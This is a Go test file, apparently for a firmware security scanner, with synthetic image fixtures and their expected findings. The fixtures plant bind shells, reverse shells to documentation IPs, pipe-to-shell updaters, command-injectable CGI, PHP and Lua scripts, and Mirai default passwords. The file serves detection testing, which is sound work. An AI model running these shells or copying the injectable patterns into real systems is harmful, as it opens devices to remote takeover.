package detect

import (
	"crypto/x509"

	"github.com/GehirnInc/crypt/md5_crypt"
	"github.com/GehirnInc/crypt/sha512_crypt"
	"strings"
	"testing"
	"time"
)

// fixture is one synthetic image with the problems it must and must not yield.
type fixture struct {
	name   string
	format string // tar (default), cpio, nested (gzip cpio inside a tar)
	files  []tf
	want   []want
	reject []want // category+path that must not be reported (above info when minSev is "")
}

func fixtures(t testing.TB) []fixture {
	k := testKeys()
	ecDER, _ := x509.MarshalECPrivateKey(k.ec)
	p8, _ := x509.MarshalPKCS8PrivateKey(k.ed)
	rsaPEM := pemString("RSA PRIVATE KEY", x509.MarshalPKCS1PrivateKey(k.rsa1024))
	md5h, err := md5_crypt.New().Generate([]byte("xc3511"), []byte("$1$Qd8H3kLm"))
	if err != nil {
		t.Fatal(err)
	}
	sha512h, err := sha512_crypt.New().Generate([]byte("tech"), []byte("$6$9xPq2Lm0aZ"))
	if err != nil {
		t.Fatal(err)
	}
	strongh, err := sha512_crypt.New().Generate([]byte("k7#Vq!92-unlisted"), []byte("$6$uN8sPq1c"))
	if err != nil {
		t.Fatal(err)
	}
	return []fixture{
		{name: "openwrt busybox init, procd, uci", files: []tf{
			{name: "etc", dir: true}, {name: "etc/init.d", dir: true}, {name: "etc/rc.d", dir: true}, {name: "etc/config", dir: true},
			{name: "etc/inittab", body: "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\nttyS0::askfirst:/usr/libexec/login.sh\n"},
			{name: "etc/init.d/rcS", mode: 0o755, body: "#!/bin/sh\nfor i in /etc/rc.d/$1*; do\n  $i start\ndone\n"},
			{name: "etc/init.d/telnet", mode: 0o755, body: "#!/bin/sh /etc/rc.common\nSTART=50\nstart_service() {\n\tprocd_open_instance\n\tprocd_set_param command /usr/sbin/telnetd -F -l /bin/login.sh\n\tprocd_close_instance\n}\n"},
			{name: "etc/rc.d/S50telnet", link: "../init.d/telnet"},
			{name: "etc/init.d/dropbear", mode: 0o755, body: "#!/bin/sh /etc/rc.common\nstart_service() {\n  procd_set_param command /usr/sbin/dropbear -F -P /var/run/dropbear.pid -p 22\n}\n"},
			{name: "etc/rc.d/S19dropbear", link: "../init.d/dropbear"},
			{name: "etc/init.d/gdbdebug", mode: 0o755, body: "#!/bin/sh /etc/rc.common\nstart() {\n  gdbserver :2345 --attach 1 &\n}\n"},
			{name: "etc/config/wireless", body: "config wifi-iface 'default_radio0'\n\toption ssid 'OpenWrt'\n\toption encryption 'psk2'\n\toption key 'unused'\n"},
			{name: "etc/config/mqtt", body: "config broker\n\toption host 'broker.cloudvendor.io'\n\toption password 'Sup3rS3cret!'\n\toption password_file '/etc/mqtt.pw'\n"},
			{name: "etc/config/system", body: "config timeserver 'ntp'\n\tlist server '0.openwrt.pool.ntp.org'\n\toption ipaddr '192.168.1.1'\n"},
		}, want: []want{
			{CategoryRemoteAccessService, "/etc/init.d/telnet", SeverityHigh, "telnetd"},
			{CategoryRemoteAccessService, "/etc/init.d/dropbear", SeverityMedium, "dropbear"},
			{CategoryPlaintextPassword, "/etc/config/mqtt", SeverityMedium, "password"},
			{CategoryOutboundEndpoint, "/etc/config/mqtt", "", "broker.cloudvendor.io"},
		}, reject: []want{
			{cat: CategoryDebugInterface, path: "/etc/init.d/gdbdebug"}, // never started: no rc.d link
			{cat: CategoryPlaintextPassword, path: "/etc/config/wireless"},
			{cat: CategoryRemoteAccessService, path: "/etc/init.d/telnet", detail: "no authentication"},
		}},
		{name: "sysv init with rc links, inetd, bind shell, reverse shell", format: "cpio", files: []tf{
			{name: "etc", dir: true}, {name: "etc/init.d", dir: true}, {name: "etc/rc2.d", dir: true},
			{name: "etc/inittab", body: "id:2:initdefault:\nsi::sysinit:/etc/init.d/rcS\n1:2345:respawn:/sbin/getty 38400 tty1\nT0:23:respawn:/sbin/getty -L ttyS0 115200 vt100\n"},
			{name: "etc/init.d/rcS", mode: 0o755, body: "#!/bin/sh\nfor s in /etc/rc2.d/S*; do $s start; done\n"},
			{name: "etc/init.d/debugsh", mode: 0o755, body: "#!/bin/sh\ncase \"$1\" in\nstart)\n  busybox nc -ll -p 4444 -e /bin/sh &\n  ;;\nstop)\n  killall nc\n  ;;\nesac\n"},
			{name: "etc/rc2.d/S90debugsh", link: "../init.d/debugsh"},
			{name: "etc/init.d/inetd", mode: 0o755, body: "#!/bin/sh\nstart-stop-daemon -S -x /usr/sbin/inetd\n"},
			{name: "etc/rc2.d/S20inetd", link: "../init.d/inetd"},
			{name: "etc/inetd.conf", body: "# ftp stream tcp nowait root /usr/sbin/ftpd ftpd\ntelnet stream tcp nowait root /usr/sbin/telnetd telnetd -l /bin/sh\n"},
			{name: "etc/init.d/phone", mode: 0o755, body: "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"},
			{name: "etc/init.d/unused", mode: 0o644, body: "#!/bin/sh\n/usr/sbin/telnetd -l /bin/sh\n"},
			{name: "etc/rc2.d/S99unused", link: "../init.d/unused"},
		}, want: []want{
			{CategoryBackdoorService, "/etc/init.d/debugsh", SeverityCritical, "bind shell"},
			{CategoryRemoteAccessService, "/etc/inetd.conf", SeverityCritical, "no authentication"},
		}, reject: []want{
			{cat: CategoryDebugInterface, path: "/etc/inittab"},
			{cat: CategoryBackdoorService, path: "/etc/init.d/phone"},      // not linked
			{cat: CategoryRemoteAccessService, path: "/etc/init.d/unused"}, // not executable
			{cat: CategoryOutboundEndpoint, path: "/etc/init.d/phone"},     // documentation address
		}},
		{name: "systemd units, wants links, drop-in autologin, cron", files: []tf{
			{name: "etc", dir: true}, {name: "etc/systemd", dir: true}, {name: "etc/systemd/system", dir: true},
			{name: "etc/systemd/system/multi-user.target.wants", dir: true}, {name: "lib", dir: true}, {name: "lib/systemd", dir: true}, {name: "lib/systemd/system", dir: true},
			{name: "lib/systemd/system/gdb-remote.service", body: "[Unit]\nDescription=remote debug\n[Service]\nExecStart=/usr/bin/gdbserver --multi 0.0.0.0:2159\n[Install]\nWantedBy=multi-user.target\n"},
			{name: "etc/systemd/system/multi-user.target.wants/gdb-remote.service", link: "/lib/systemd/system/gdb-remote.service"},
			{name: "lib/systemd/system/ssh.service", body: "[Service]\nExecStart=/usr/sbin/sshd -D\n"},
			{name: "etc/systemd/system/multi-user.target.wants/ssh.service", link: "/lib/systemd/system/ssh.service"},
			{name: "etc/ssh", dir: true},
			{name: "etc/ssh/sshd_config", body: "Port 22\n#PermitRootLogin prohibit-password\nPermitEmptyPasswords yes\nCiphers aes128-ctr,arcfour256\nMACs hmac-sha2-256,-hmac-md5\n"},
			{name: "lib/systemd/system/telnet.service", body: "[Service]\nExecStart=/usr/sbin/telnetd -F\n"},
			{name: "etc/systemd/system/serial-getty@ttyS0.service.d", dir: true},
			{name: "etc/systemd/system/getty.target.wants", dir: true},
			{name: "etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service", link: "/lib/systemd/system/serial-getty@.service"},
			{name: "lib/systemd/system/serial-getty@.service", body: "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud 115200 %I $TERM\n"},
			{name: "etc/systemd/system/serial-getty@ttyS0.service.d/autologin.conf", body: "[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --noclear %I 115200 linux\n"},
			{name: "etc/crontabs", dir: true},
			{name: "etc/crontabs/root", body: "@reboot /usr/bin/socat TCP-LISTEN:1337,fork EXEC:/bin/sh\n*/1 * * * * /bin/sh -c 'sh -i >& /dev/tcp/198.51.100.7/9001 0>&1'\n"},
			{name: "etc/crontab", body: "SHELL=/bin/sh\n*/5 * * * * root /usr/bin/update.sh\n# @reboot root nc -l -p 9 -e /bin/sh\n"},
			{name: "usr", dir: true}, {name: "usr/bin", dir: true},
			{name: "usr/bin/update.sh", mode: 0o755, body: "#!/bin/sh\nSERVER=http://updates.vendorcloud.com\nwget -q -O - $SERVER/hotfix.sh | sh\ncurl -s -o /tmp/fw.bin $SERVER/latest.bin\nsysupgrade -n /tmp/fw.bin\n"},
			{name: "usr/bin/safe-update.sh", mode: 0o755, body: "#!/bin/sh\nwget -O /tmp/pkg.ipk https://updates.vendorcloud.com/pkg.ipk\nopkg install /tmp/pkg.ipk\n"},
		}, want: []want{
			{CategoryDebugInterface, "/lib/systemd/system/gdb-remote.service", SeverityCritical, "gdbserver"},
			{CategoryBackdoorService, "/etc/crontabs/root", SeverityCritical, "socat"},
			{CategoryBackdoorService, "/etc/crontabs/root", SeverityCritical, "/dev/tcp"},
			{CategoryRemoteAccessService, "/etc/ssh/sshd_config", SeverityCritical, "empty passwords"},
			{CategoryInsecureCryptoConfig, "/etc/ssh/sshd_config", SeverityMedium, "arcfour256"},
			{CategoryDebugInterface, "/etc/systemd/system/serial-getty@ttyS0.service.d/autologin.conf", SeverityHigh, "auto-logs in"},
			{CategoryInsecureUpdate, "/usr/bin/update.sh", SeverityHigh, "pipes it into a shell"},
			{CategoryInsecureUpdate, "/usr/bin/update.sh", SeverityHigh, "runs or flashes"},
			{CategoryOutboundEndpoint, "/usr/bin/update.sh", SeverityLow, "updates.vendorcloud.com"},
		}, reject: []want{
			{cat: CategoryRemoteAccessService, path: "/lib/systemd/system/telnet.service"}, // not enabled
			{cat: CategoryInsecureUpdate, path: "/usr/bin/safe-update.sh"},                 // HTTPS
			{cat: CategoryBackdoorService, path: "/etc/crontab"},                           // commented
			{cat: CategoryInsecureCryptoConfig, path: "/etc/ssh/sshd_config", detail: "hmac-md5"},
			{cat: CategoryRemoteAccessService, path: "/etc/ssh/sshd_config", detail: "root login"},
		}},
		{name: "accounts: empty, DES, cracked root, locked, extra uid 0 locked", files: []tf{
			{name: "etc", dir: true},
			{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/ash\ndaemon:*:1:1:daemon:/var:/bin/false\noperator:x:0:0:op:/root:/sbin/nologin\nftp::55:55:ftp:/home/ftp:/bin/false\nsupport:U6aMy0wojraho:1001:1001::/home/support:/bin/sh\nguest:x:1002:1002::/home/guest:\n"},
			{name: "etc/shadow", body: "root:" + md5h + ":18000:0:99999:7:::\ndaemon:*:0:0:99999:7:::\noperator:!:0:0:99999:7:::\nftp:!:0:0:99999:7:::\nguest::18000:0:99999:7:::\n"},
			{name: "etc/inittab", body: "::sysinit:/etc/init.d/rcS\n::respawn:-/bin/sh\ntty2::respawn:/sbin/getty -n -l /bin/sh 115200 tty2\n#ttyS1::askfirst:/bin/sh\n"},
			{name: "mnt", dir: true}, {name: "mnt/jffs2", dir: true}, {name: "mnt/jffs2/etc", dir: true},
			{name: "mnt/jffs2/etc/passwd", body: "root:x:0:0::/root:/bin/sh\ntech:x:1000:1000::/home/tech:/bin/sh\nops:x:1001:1001::/home/ops:/bin/sh\n"},
			{name: "mnt/jffs2/etc/shadow", body: "root:" + strongh + ":1::::::\ntech:" + sha512h + ":1::::::\nops:!" + strongh + ":1::::::\n"},
		}, want: []want{
			{CategoryHardcodedPasswordHash, "/etc/shadow", SeverityHigh, "root: md5crypt hash of a default password"},
			{CategoryHardcodedPasswordHash, "/mnt/jffs2/etc/shadow", SeverityHigh, "tech: sha512crypt hash of a default password"},
			{CategoryHardcodedPasswordHash, "/mnt/jffs2/etc/shadow", SeverityLow, "root: sha512crypt hash, same"},
			{CategoryDebugInterface, "/etc/inittab", SeverityHigh, "root shell on the console"},
			{CategoryDebugInterface, "/etc/inittab", SeverityHigh, "getty runs /bin/sh"},
			{CategoryEmptyPassword, "/etc/shadow", SeverityHigh, "guest"},
			{CategoryHardcodedPasswordHash, "/etc/passwd", SeverityCritical, "support: DES crypt hash of the empty password"},
			{CategoryBackdoorAccount, "/etc/passwd", SeverityMedium, "operator"},
			{CategoryBackdoorAccount, "/etc/passwd", SeverityLow, "support"},
		}, reject: []want{
			{cat: CategoryEmptyPassword, path: "/etc/passwd"}, // ftp has no login shell
			{cat: CategoryBackdoorAccount, path: "/etc/passwd", detail: "'guest'"},
			{cat: CategoryHardcodedPasswordHash, path: "/mnt/jffs2/etc/shadow", detail: "ops"},
			{cat: CategoryBackdoorAccount, path: "/mnt/jffs2/etc/passwd", detail: "ops"},
			{cat: CategoryBackdoorAccount, path: "/etc/passwd", minSev: SeverityHigh},
		}},
		// DES crypt hashes made by libxcrypt's crypt(3): 7ujMko0admin (Mirai;
		// only its first 8 characters count), xmhdipc (Mirai), and a strong
		// password in the wordlist of no scanner. BSDi extended DES:
		// juantech (Mirai), admin (Mirai, but a count of 262143, above the
		// cracking bound), and a strong password.
		{name: "accounts: DES crypt cracked and not", format: "cpio", files: []tf{
			{name: "etc", dir: true},
			{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/sh\nadmin:x:1000:1000::/home/admin:/bin/sh\n"},
			{name: "etc/shadow", body: "root:Gz94C2wX7uvBU:18000:0:99999:7:::\nadmin:q/AgOp07Ig3N.:18000:0:99999:7:::\n"},
			{name: "opt", dir: true}, {name: "opt/etc", dir: true},
			{name: "opt/etc/passwd", body: "root:_J9..vdorm8o85Ct/MSw:0:0::/root:/bin/sh\nsvc:_zzz.Adm1s0/mMWA9Aio:0:0::/:/bin/sh\nops:_J9..rnd2m8uIw.GSHMo:1000:1000::/:/bin/sh\n"},
			{name: "www", dir: true},
			{name: "www/.htpasswd", body: "viewer:A5B9unRU.6U3o\n"},
			{name: "www/ops", dir: true},
			{name: "www/ops/.htpasswd", body: "ops:q/AgOp07Ig3N.\n"},
		}, want: []want{
			{CategoryHardcodedPasswordHash, "/etc/shadow", SeverityHigh, "root: DES crypt hash of a default password (7"},
			{CategoryHardcodedPasswordHash, "/etc/shadow", SeverityHigh, "admin: DES crypt hash (weak algorithm), same on every device"},
			{CategoryHardcodedPasswordHash, "/www/.htpasswd", SeverityHigh, "viewer: DES crypt hash of a default password"},
			{CategoryHardcodedPasswordHash, "/www/ops/.htpasswd", SeverityMedium, "ops: DES crypt hash (weak algorithm)"},
			{CategoryHardcodedPasswordHash, "/opt/etc/passwd", SeverityHigh, "root: BSDi extended DES hash of a default password (j"},
			{CategoryHardcodedPasswordHash, "/opt/etc/passwd", SeverityHigh, "svc: BSDi extended DES hash (weak algorithm)"},
			{CategoryHardcodedPasswordHash, "/opt/etc/passwd", SeverityHigh, "ops: BSDi extended DES hash (weak algorithm)"},
		}, reject: []want{
			{cat: CategoryHardcodedPasswordHash, path: "/etc/shadow", detail: "admin: DES crypt hash of"},
			{cat: CategoryHardcodedPasswordHash, path: "/opt/etc/passwd", detail: "svc: BSDi extended DES hash of"},
			{cat: CategoryHardcodedPasswordHash, path: "/opt/etc/passwd", detail: "ops: BSDi extended DES hash of"},
			{cat: CategoryHardcodedPasswordHash, path: "/www/ops/.htpasswd", minSev: SeverityHigh},
			{cat: CategoryPlaintextPassword, path: "/etc/shadow"},
		}},
		{name: "keys in PEM, OpenSSH, Dropbear; certificates", format: "nested", files: []tf{
			{name: "etc", dir: true}, {name: "etc/dropbear", dir: true}, {name: "etc/ssl", dir: true}, {name: "etc/ssl/certs", dir: true},
			{name: "etc/dropbear/dropbear_ed25519_host_key", mode: 0o600, body: dropbearEd25519(k.ed)},
			{name: "etc/dropbear/dropbear_rsa_host_key", mode: 0o600, body: dropbearRSA(k.rsa1024)},
			{name: "etc/ssl/ed.key", body: pemString("PRIVATE KEY", p8)},
			{name: "etc/ssl/ec.key", body: pemString("EC PRIVATE KEY", ecDER)},
			{name: "etc/ssl/legacy.key", body: rsaPEM},
			{name: "root", dir: true}, {name: "root/.ssh", dir: true},
			{name: "root/.ssh/id_ed25519", mode: 0o600, body: openSSHKey(t, k.ed)},
			{name: "root/.ssh/authorized_keys", body: "# vendor support\n" + authorizedKey(t, k.ed, "support@vendor")},
			{name: "etc/dropbear/authorized_keys", body: "# no keys\n"},
			{name: "etc/ssl/certs/expired.pem", body: selfSigned(t, fixedNow.Add(-48*time.Hour), k.ec, &k.ec.PublicKey)},
			{name: "etc/ssl/certs/valid.pem", body: selfSigned(t, fixedNow.AddDate(3, 0, 0), k.ec, &k.ec.PublicKey)},
			{name: "etc/ssl/certs/weak.pem", body: selfSigned(t, fixedNow.AddDate(3, 0, 0), k.rsa1024, &k.rsa1024.PublicKey)},
			{name: "usr", dir: true}, {name: "usr/share", dir: true}, {name: "usr/share/doc", dir: true},
			{name: "usr/share/doc/example.key", body: pemString("PRIVATE KEY", p8)},
			{name: "usr/lib", dir: true},
			{name: "usr/lib/libvendor.so", body: "\x7fELF\x00\x00" + strings.Repeat("\x00", 64) + rsaPEM + "\x00\x00"},
		}, want: []want{
			{CategoryPrivateKey, "/etc/dropbear/dropbear_ed25519_host_key", SeverityHigh, "ed25519"},
			{CategoryPrivateKey, "/etc/dropbear/dropbear_rsa_host_key", SeverityHigh, "rsa-1024"},
			{CategoryInsecureCryptoConfig, "/etc/dropbear/dropbear_rsa_host_key", SeverityMedium, "1024-bit"},
			{CategoryPrivateKey, "/etc/ssl/ed.key", SeverityHigh, "pkcs8"},
			{CategoryPrivateKey, "/etc/ssl/ec.key", SeverityHigh, "ecdsa-p256"},
			{CategoryPrivateKey, "/etc/ssl/legacy.key", SeverityHigh, "pkcs1"},
			{CategoryPrivateKey, "/root/.ssh/id_ed25519", SeverityHigh, "openssh"},
			{CategoryBackdoorAccount, "/root/.ssh/authorized_keys", SeverityHigh, "as root"},
			{CategoryPrivateKey, "/usr/lib/libvendor.so", SeverityHigh, "rsa-1024"},
			{CategoryInsecureCryptoConfig, "/etc/ssl/certs/expired.pem", SeverityMedium, "expired"},
			{CategoryInsecureCryptoConfig, "/etc/ssl/certs/weak.pem", SeverityMedium, "1024-bit RSA"},
		}, reject: []want{
			{cat: CategoryPrivateKey, path: "/etc/ssl/certs/valid.pem"},
			{cat: CategoryInsecureCryptoConfig, path: "/etc/ssl/certs/valid.pem"},
			{cat: CategoryPrivateKey, path: "/usr/share/doc/example.key"},
			{cat: CategoryPrivateKey, path: "/etc/ssl/certs/expired.pem"},
			{cat: CategoryBackdoorAccount, path: "/etc/dropbear/authorized_keys"},
			{cat: CategoryPrivateKey, path: "/root/.ssh/authorized_keys"},
		}},
		{name: "secrets, endpoints and their decoys", files: []tf{
			{name: "etc", dir: true}, {name: "opt", dir: true}, {name: "opt/app", dir: true},
			{name: "opt/app/cloud.json", body: "{\n  \"aws_access_key_id\": \"AKIAQYLPMN5HFIQR7XYA\",\n  \"xmlns\": \"http://www.w3.org/2000/svg\",\n  \"endpoint\": \"https://iot.vendorcloud.com:8883/v2\"\n}\n"},
			{name: "opt/app/app.conf", body: "# api_key = ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\nversion=10.4.2.1\nfirmware_version: 3.1.0.2\ngateway=10.0.0.1\nlog_host=127.0.0.1\ndns=192.0.2.53\nhome=http://192.168.1.1/\nssl_ciphers HIGH:!aNULL:!RC4:!MD5\nssl_protocols TLSv1.2 TLSv1.3\nsecret=<your secret here>\n"},
			{name: "opt/app/weak.conf", body: "ssl_protocols SSLv3 TLSv1 TLSv1.2;\nssl_ciphers RC4-SHA:HIGH;\nCipherString = DEFAULT@SECLEVEL=0\n"},
			{name: "opt/app/dns.conf", body: "nameserver 8.8.8.8\nupstream=1.1.1.1:53\n"},
			{name: "opt/app/mqtt.conf", body: "broker_host=mqtt.vendor.example\n"},
			{name: "opt/app/oid.conf", body: "# OIDs, e.g. server 1.3.6.1\nserver_oid=1.3.6.1:int:5\n"},
			{name: "var", dir: true}, {name: "var/lib", dir: true}, {name: "var/lib/dpkg", dir: true},
			{name: "var/lib/dpkg/status", body: "Package: foo\nHomepage: https://foo.vendorproject.org\n"},
			{name: "etc/nsswitch.conf", body: "passwd:         files\nshadow:         files\n"},
			{name: "etc/gpg-helper", mode: 0o755, body: "#!/bin/sh\ncat_passwd='getent passwd'\n"},
			{name: "etc/settings.xml", body: "<settings>\n<!-- example:\n  <url>http://my.repository.vendorcloud.com/repo</url>\n-->\n<catalog><delegateSystem systemIdStartString=\"http://dtd.vendorcloud.com/x.dtd\"/>\n<dtd>http://dtd.vendorcloud.com/y.dtd</dtd></catalog>\n</settings>\n"},
			{name: "etc/java.security", body: "jdk.tls.keyLimits=AES/GCM/NoPadding KeyUpdate 2^37\n"},
			{name: "usr", dir: true}, {name: "usr/bin", dir: true},
			{name: "usr/bin/agent", mode: 0o755, body: "\x7fELF\x02\x01\x00\x00reporting to https://telemetry.vendorcloud.net/collect\x00see https://www.gnu.org/licenses/\x00go.dev/doc\x00github.com/spf13/cobra\x00v1.2.3.4\x00\x01\x02AWS_KEY=AKIAZ7VRSQ5TKD3MNE4P\x00"},
		}, want: []want{
			{CategoryAPISecret, "/opt/app/cloud.json", SeverityHigh, "aws"},
			{CategoryOutboundEndpoint, "/opt/app/cloud.json", SeverityLow, "iot.vendorcloud.com"},
			{CategoryOutboundEndpoint, "/opt/app/dns.conf", SeverityLow, "8.8.8.8"},
			{CategoryOutboundEndpoint, "/opt/app/mqtt.conf", SeverityLow, "mqtt.vendor.example"},
			{CategoryOutboundEndpoint, "/usr/bin/agent", SeverityLow, "telemetry.vendorcloud.net"},
			{CategoryAPISecret, "/usr/bin/agent", SeverityHigh, "aws-access-token"},
			{CategoryInsecureCryptoConfig, "/opt/app/weak.conf", SeverityHigh, "sslv3"},
			{CategoryInsecureCryptoConfig, "/opt/app/weak.conf", SeverityMedium, "SECLEVEL=0"},
		}, reject: []want{
			{cat: CategoryAPISecret, path: "/opt/app/app.conf"},
			{cat: CategoryPlaintextPassword, path: "/etc/nsswitch.conf"},
			{cat: CategoryPlaintextPassword, path: "/etc/gpg-helper"},
			{cat: CategoryOutboundEndpoint, path: "/etc/settings.xml"},
			{cat: CategoryAPISecret, path: "/etc/java.security"},
			{cat: CategoryOutboundEndpoint, path: "/opt/app/app.conf"},
			{cat: CategoryOutboundEndpoint, path: "/opt/app/oid.conf"},
			{cat: CategoryInsecureCryptoConfig, path: "/opt/app/app.conf"},
			{cat: CategoryPlaintextPassword, path: "/opt/app/app.conf"},
			{cat: CategoryOutboundEndpoint, path: "/var/lib/dpkg/status"},
			{cat: CategoryOutboundEndpoint, path: "/usr/bin/agent", detail: "gnu.org"},
			{cat: CategoryOutboundEndpoint, path: "/usr/bin/agent", detail: "go.dev"},
			{cat: CategoryOutboundEndpoint, path: "/opt/app/cloud.json", detail: "w3.org"},
		}},
		{name: "passwords, updates and tokens in another layout", format: "cpio", files: []tf{
			{name: "etc", dir: true},
			{name: "etc/passwd", body: "root::0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n"},
			{name: "etc/httpd.conf", body: "A:*\n/cgi-bin:admin:admin123\n/adm:root:$1$xyz$abcdefghijklmnopqrstuv\n"},
			{name: "etc/wpa_supplicant.conf", body: "network={\n  ssid=\"factory\"\n  psk=\"MyWifiPass9\"\n}\n"},
			{name: "etc/login.defs", body: "PASS_MAX_DAYS 99999\nPASS_MIN_LEN 5\n"},
			{name: "etc/app.ini", body: "password_file=/etc/app.pw\npassword=\npassword = ${APP_PASSWORD}\n"},
			{name: "usr", dir: true}, {name: "usr/lib", dir: true},
			{name: "usr/lib/cloud.py", body: "import getpass\nAPI_PASSWORD = \"Cl0udP@ss\"\npassword = getpass.getpass()\n"},
			{name: "sbin", dir: true},
			{name: "sbin/fwupdate", mode: 0o755, body: "#!/bin/sh\nSRV=192.168.1.10\ntftp -g -r fw.bin -l /tmp/fw.bin $SRV\nmtd write /tmp/fw.bin firmware\n"},
			{name: "sbin/signedupdate", mode: 0o755, body: "#!/bin/sh\nwget -O /tmp/u.tgz http://upd.vendorcloud.com/u.tgz\nwget -O /tmp/u.sig http://upd.vendorcloud.com/u.sig\nopenssl dgst -sha256 -verify /etc/pub.pem -signature /tmp/u.sig /tmp/u.tgz || exit 1\ntar xzf /tmp/u.tgz -C /\n"},
			{name: "sbin/notexec", mode: 0o644, body: "#!/bin/sh\nwget -q -O - http://x.vendorcloud.com/a.sh | sh\n"},
			{name: "sbin/pushlog", mode: 0o755, body: "#!/bin/sh\nGITHUB_TOKEN=ghp_R4nd0mT0kenV4lue0123456789abcdefABCD\nSLACK=<insert slack webhook>\n"},
		}, want: []want{
			{CategoryEmptyPassword, "/etc/passwd", SeverityCritical, "root"},
			{CategoryPlaintextPassword, "/etc/httpd.conf", SeverityMedium, "basic auth for admin"},
			{CategoryPlaintextPassword, "/etc/wpa_supplicant.conf", SeverityMedium, "psk"},
			{CategoryPlaintextPassword, "/usr/lib/cloud.py", SeverityMedium, "API_PASSWORD"},
			{CategoryInsecureUpdate, "/sbin/fwupdate", SeverityHigh, "runs or flashes"},
			{CategoryInsecureUpdate, "/sbin/signedupdate", SeverityLow, "signature check appears"},
			{CategoryAPISecret, "/sbin/pushlog", SeverityHigh, "github"},
		}, reject: []want{
			{cat: CategoryPlaintextPassword, path: "/etc/login.defs"},
			{cat: CategoryPlaintextPassword, path: "/etc/app.ini"},
			{cat: CategoryPlaintextPassword, path: "/etc/httpd.conf", detail: "root"},
			{cat: CategoryPlaintextPassword, path: "/usr/lib/cloud.py", detail: "password,"},
			{cat: CategoryInsecureUpdate, path: "/sbin/signedupdate", minSev: SeverityMedium},
			{cat: CategoryInsecureUpdate, path: "/sbin/notexec"},
			{cat: CategoryAPISecret, path: "/sbin/pushlog", detail: "2 hard-coded"},
		}},
		{name: "CGI scripts and web permissions", files: []tf{
			{name: "www", dir: true}, {name: "www/cgi-bin", dir: true},
			{name: "www/cgi-bin/ping.cgi", mode: 0o755, body: "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nIP=$(echo \"$QUERY_STRING\" | sed -n 's/.*ip=\\([^&]*\\).*/\\1/p')\neval \"ping -c 1 $IP\"\n"},
			{name: "www/cgi-bin/status.cgi", mode: 0o755, body: "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nuptime\n# eval \"$QUERY_STRING\"\n"},
			{name: "www/cgi-bin/safe.cgi", mode: 0o755, body: "#!/bin/sh\nIP=$(echo \"$QUERY_STRING\" | tr -cd '0-9.')\nping -c 1 \"$IP\"\n"},
			{name: "www/cgi-bin/notexec.cgi", mode: 0o644, body: "#!/bin/sh\neval \"$QUERY_STRING\"\n"},
			{name: "www/tools.php", body: "<?php\n$host = $_GET['host'];\n$out = shell_exec(\"nslookup \" . $host);\necho htmlspecialchars($out);\n"},
			{name: "www/safe.php", body: "<?php\n$h = escapeshellarg('localhost');\necho shell_exec('uptime');\n"},
			{name: "usr", dir: true}, {name: "usr/lib", dir: true}, {name: "usr/lib/lua", dir: true}, {name: "usr/lib/lua/luci", dir: true},
			{name: "usr/lib/lua/luci/diag.lua", body: "local http = require \"luci.http\"\nlocal addr = http.formvalue(\"addr\")\nlocal f = io.popen(\"traceroute \" .. addr)\n"},
			{name: "www/upload", dir: true, mode: 0o777},
			{name: "tmp", dir: true, mode: 0o1777},
			{name: "var", dir: true}, {name: "var/spool", dir: true, mode: 0o1777},
			{name: "bin", dir: true},
			{name: "bin/busybox", mode: 0o4755, body: "\x7fELF\x00BusyBox v1.36.1"},
			{name: "bin/su", mode: 0o4755, body: "\x7fELF\x00su"},
			{name: "usr/lib/helper.sh", mode: 0o4755, body: "#!/bin/sh\nid\n"},
			{name: "etc", dir: true}, {name: "etc/init.d", dir: true},
			{name: "etc/init.d/S10net", mode: 0o777, body: "#!/bin/sh\nifconfig eth0 up\n"},
			{name: "etc/data.zip", body: zipOf(t, "a.txt", "b.txt")},
			{name: "data", dir: true},
			{name: "data/1", mode: 0o666, body: "x"}, {name: "data/2", mode: 0o666, body: "x"}, {name: "data/3", mode: 0o666, body: "x"},
			{name: "data/4", mode: 0o666, body: "x"}, {name: "data/5", mode: 0o666, body: "x"},
		}, want: []want{
			{CategoryInsecurePermissions, "/data", SeverityMedium, "5 world-writable files"},
			{CategoryCommandInjection, "/www/cgi-bin/ping.cgi", SeverityHigh, "shell"},
			{CategoryCommandInjection, "/www/tools.php", SeverityHigh, "PHP"},
			{CategoryCommandInjection, "/usr/lib/lua/luci/diag.lua", SeverityHigh, "Lua"},
			{CategoryInsecurePermissions, "/www/upload", SeverityMedium, "sticky"},
			{CategoryInsecurePermissions, "/bin/busybox", SeverityHigh, "multi-call"},
			{CategoryInsecurePermissions, "/usr/lib/helper.sh", SeverityHigh, "script"},
			{CategoryInsecurePermissions, "/etc/init.d/S10net", SeverityHigh, "world-writable"},
			{CategoryInsecurePermissions, "/var/spool", SeverityLow, "sticky"},
		}, reject: []want{
			{cat: CategoryCommandInjection, path: "/www/cgi-bin/status.cgi"},
			{cat: CategoryCommandInjection, path: "/www/cgi-bin/safe.cgi"},
			{cat: CategoryCommandInjection, path: "/www/cgi-bin/notexec.cgi"},
			{cat: CategoryCommandInjection, path: "/www/safe.php"},
			{cat: CategoryInsecurePermissions, path: "/tmp"},
			{cat: CategoryInsecurePermissions, path: "/a.txt"},
			{cat: CategoryInsecurePermissions, path: "/data/1"},
			{cat: CategoryInsecurePermissions, path: "/bin/su", minSev: SeverityLow},
		}},
	}
}

func buildFixture(t testing.TB, fx fixture) []byte {
	switch fx.format {
	case "cpio":
		return newcImage(fx.files)
	case "nested":
		return tarImage(t, []tf{{name: "firmware", dir: true}, {name: "firmware/rootfs.cpio.gz", body: string(gz(newcImage(fx.files)))}})
	}
	return tarImage(t, fx.files)
}

func TestFixtures(t *testing.T) {
	counts := map[string][2]int{}
	for _, fx := range fixtures(t) {
		t.Run(fx.name, func(t *testing.T) {
			probs := detectImage(t, buildFixture(t, fx))
			for _, p := range probs {
				t.Logf("%-8s %-24s %-50s %v %s | %s", p.Severity, p.Category, p.Path, p.Container, p.Detail, p.Evidence)
				if p.Container == nil || !strings.HasPrefix(p.Path, "/") {
					t.Errorf("malformed %+v", p)
				}
				if fx.format == "nested" && len(p.Container) == 0 {
					t.Errorf("nested fixture problem without container: %+v", p)
				}
			}
